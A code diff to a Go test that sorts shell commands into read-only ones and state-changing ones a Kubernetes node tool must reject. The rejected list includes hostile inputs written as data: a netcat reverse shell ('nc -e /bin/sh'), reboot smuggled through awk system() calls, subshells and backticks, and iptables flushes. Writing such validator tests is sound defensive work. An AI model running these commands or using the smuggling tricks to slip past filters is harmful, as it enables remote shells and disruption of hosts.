@@ -26,10 +26,16 @@ func TestReadsOnly(t *testing.T) {
 		"find /etc -name '*.conf'", "date", "date +%s", "date -u", "date -d yesterday +%F", "hostname", "hostname -f", "mount", "mount -l", "mount -t ext4",
 		"journalctl -u kubelet | grep -E 'error|fail' | tail -5", "df -h; free -m", "ls /x 2>/dev/null", "crictl ps 2>&1 | head", "ls x >/dev/null 2>&1 && echo yes",
 		"sh -c 'df -h'", "kubectl get nodes", "kubectl --kubeconfig /etc/kubernetes/admin.conf -n x get pods", "echo \"a > b\"", "",
+		"clear", "true", "sleep 5", "ping -c 3 10.0.0.1", "dig shop", "nslookup shop 10.96.0.10", "man systemctl", "htop", "kubelet --version",
+		"nc -zv 10.0.0.1 6443", "nc -l 8080", "nc -zvw2 10.0.0.1 80", "timedatectl", "timedatectl status", "timedatectl show -p NTP",
+		"awk '{print $1}' f", "awk -F: '$3 > 999' /etc/passwd", "awk -F ':' -v n=3 '$3>n {print $1}' f", "ps aux | awk '/kubelet|containerd/ {print $2}'", "awk '/systemd/' f",
+		"env", "env -i", "env LC_ALL=C ls", "env -u LANG journalctl -n 5", "env | sort",
+		"iptables -L", "iptables -nvL -t nat", "iptables -t nat -S KUBE-SERVICES", "iptables -tnat -L", "ip6tables --list --numeric", "iptables -L INPUT -n --line-numbers",
+		"ctr -n k8s.io containers ls", "ctr --namespace k8s.io i ls -q", "ctr version", "ctr ns ls", "ctr -n k8s.io task ps x",
 	}
 	changes := []string{
 		"systemctl start kubelet", "systemctl", "systemctl --now enable kubelet", "systemctl --no-pager restart kubelet", "systemctl -t service stop status",
-		"sh -c true", "sh -c 'rm x'", "crictl rm x", "crictl rmi x", "crictl exec x ls", "crictl pull x", "ip link set eth0 down", "ip netns exec x ls",
+		"sh -c reboot", "sh -c 'rm x'", "crictl rm x", "crictl rmi x", "crictl exec x ls", "crictl pull x", "ip link set eth0 down", "ip netns exec x ls",
 		"openssl x509 -in x -out y", "openssl genrsa 2048", "openssl",
 		"curl -X POST http://x", "curl -XDELETE http://x", "curl -sd a=b http://x", "curl --data a http://x", "curl -T f http://x", "curl -o f http://x", "curl -LO http://x", "curl --request PUT http://x",
 		"curl --output f http://x",
@@ -37,7 +43,14 @@ func TestReadsOnly(t *testing.T) {
 		"find / -name x -delete", "find / -exec rm {} +", "find / -execdir rm {} +", "find / -ok rm {} +", "find / -fprint f",
 		"date -s 12:00", "date --set=12:00", "date -us 12:00", "date 112312002026", "hostname other", "mount /dev/sda /mnt", "mount -o remount,rw /",
 		"journalctl --vacuum-time=1s", "journalctl --rotate", "dmesg -C", "ss -K dst 1.2.3.4", "kubectl delete pod x", "kubectl -n x exec p -- ls",
-		"df -h; reboot", "echo x > f", "cat f | tee g", "echo `reboot`", "echo $(reboot)", "echo \"$(reboot)\"", "ls >> f", "ls & reboot", "(reboot)", "true",
+		"df -h; reboot", "echo x > f", "cat f | tee g", "echo `reboot`", "echo $(reboot)", "echo \"$(reboot)\"", "ls >> f", "ls & reboot", "(reboot)", "no-such-program",
+		"kubelet", "kubelet --version --config x", "man -P reboot ls", "nc -e /bin/sh 10.0.0.1 80", "nc -lc reboot", "nc --sh-exec reboot x 1",
+		"timedatectl set-time 12:00", "timedatectl set-ntp false", "clear; reboot", "sleep 5 && reboot", "true > f",
+		"awk '{print > \"f\"}' g", "awk '{system(\"reboot\")}' f", "awk 'BEGIN { system (\"reboot\") }'", "awk '{print | \"sh\"}' f", "awk 'BEGIN {\"reboot\" | getline x}'",
+		"awk '{printf \"%s\", $1 >> \"f\"}' g", "awk -f prog f", "awk -i inplace '{print}' f", "awk 'BEGIN {f=\"sys\" \"tem\"; @f(\"reboot\")}'", "awk", "awk '{print}' f > g",
+		"env reboot", "env A=b systemctl stop kubelet", "env -S 'rm x'", "env -u LANG rm x", "env -C / rm x",
+		"iptables -F", "iptables -t nat -F", "iptables -L -Z", "iptables -A INPUT -j DROP", "iptables -D INPUT 1", "iptables", "iptables -P INPUT DROP", "iptables --flush", "iptables -LF",
+		"ctr images rm x", "ctr run ls x", "ctr -n k8s.io t kill x", "ctr t exec --exec-id ls x sh", "ctr containers", "ctr images pull ls",
 	}
 	for _, line := range looks {
 		if !readsOnlyLine(line) {
